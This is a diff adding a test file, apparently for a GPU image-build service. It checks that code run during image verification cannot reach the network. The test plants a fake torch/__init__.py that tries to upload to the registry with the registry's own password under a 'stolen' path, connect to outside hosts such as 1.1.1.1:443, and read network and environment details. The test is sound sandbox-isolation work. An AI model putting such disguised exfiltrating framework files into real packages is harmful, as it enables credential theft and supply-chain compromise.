@@ -1,0 +1,93 @@
+import { afterAll, beforeAll, expect, it } from 'vitest'
+import { createClient } from '../client.ts'
+import { listenOnLoopback } from '../listen-on-loopback.ts'
+import { file, glibcRoot, pythonRoot } from './kit/glibc-root.ts'
+import { gpuImage } from './kit/gpu-image.ts'
+import { nodeClasses } from './kit/node-classes.ts'
+import { setGpuPolicy } from './kit/set-gpu-policy.ts'
+import { type SimulatedFarm, startSimulatedFarm } from './kit/simulated-farm.ts'
+
+let farm: SimulatedFarm
+beforeAll(async () => {
+  farm = await startSimulatedFarm(nodeClasses.a100)
+  await setGpuPolicy(farm.url, { mode: 'require_gpu', wait_seconds: 60 })
+})
+afterAll(async () => farm[Symbol.asyncDispose]())
+
+/**
+ * A framework that uses its time to reach out, with the very password of the registry, and tells what came of it: `ok`,
+ * or the kind of error.
+ */
+const reachingOut = ({ url, username, password }: SimulatedFarm['registry'], hosts: string[]) => `
+import base64, os, socket, urllib.request
+def attempt(what):
+    try:
+        what()
+        return "ok"
+    except urllib.error.HTTPError as error:
+        return "answered %d" % error.code
+    except Exception as error:
+        return type(error).__name__
+def push(headers):
+    request = urllib.request.Request(${JSON.stringify(`${url}/v2/kiln/default/stolen/blobs/uploads/`)}, b"", headers, method="POST")
+    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=3)
+login = base64.b64encode(${JSON.stringify(`${username}:${password}`)}.encode()).decode()
+def reach(address):
+    host, port = address.rsplit(":", 1)
+    socket.create_connection((host, int(port)), 3).close()
+results = [
+    attempt(lambda: push({})),
+    attempt(lambda: push({"Authorization": "Basic " + login})),
+    attempt(lambda: socket.getaddrinfo("registry.npmjs.org", 443)),
+    *[attempt(lambda: reach(address)) for address in ${JSON.stringify(hosts)}],
+    ",".join(sorted(os.listdir("/sys/class/net"))),
+    str(len(open("/proc/net/route").readlines()) - 1) + " routes",
+    ",".join(name for name in sorted(os.environ) if "KILN" in name or "PROXY" in name.upper()) or "no variables",
+]
+raise ValueError(" ".join(results))
+`
+
+it('lets what an image runs under verification push nothing and reach nobody', async () => {
+  let asked = 0
+  await using server = await listenOnLoopback()
+  server.on('connection', () => (asked += 1))
+  const address = server.address()
+  const hosts = [
+    `127.0.0.1:${typeof address === 'object' ? address?.port : ''}`,
+    new URL(farm.url).host,
+    new URL(farm.registry.url).host,
+    '10.213.0.1:53',
+    '1.1.1.1:443',
+  ]
+  const known = new Set((await glibcRoot(farm.tools.probe)).map(({ header }) => header.name))
+  const python = (await pythonRoot(farm.tools.probe)).filter(
+    ({ header }) => !known.has(header.name),
+  )
+  const torch = file(
+    '/usr/lib/python3/site-packages/torch/__init__.py',
+    0o644,
+    Buffer.from(reachingOut(farm.registry, hosts)),
+  )
+  const image = await gpuImage(farm, {
+    entries: [...python, torch],
+    lines: ['ENV PYTHONPATH=/usr/lib/python3/site-packages'],
+  })
+  const done = await createClient(farm.url).build({ name: 'team/reaching:1', ...image })
+  const refused = 'URLError URLError gaierror'
+  const unreached =
+    'ConnectionRefusedError ConnectionRefusedError ConnectionRefusedError OSError OSError'
+  expect(done.failure).toMatchObject({
+    code: 'verification_failed',
+    reasons: expect.arrayContaining(['FRAMEWORK_IMPORT_FAILED']),
+    message: expect.stringContaining(
+      `ValueError: ${refused} ${unreached} lo 0 routes no variables`,
+    ),
+  })
+  expect(asked).toBe(0)
+  const stolen = await fetch(`${farm.registry.url}/v2/kiln/default/stolen/tags/list`, {
+    headers: {
+      authorization: `Basic ${Buffer.from(`${farm.registry.username}:${farm.registry.password}`).toString('base64')}`,
+    },
+  })
+  expect(stolen.status).toBe(404)
+})
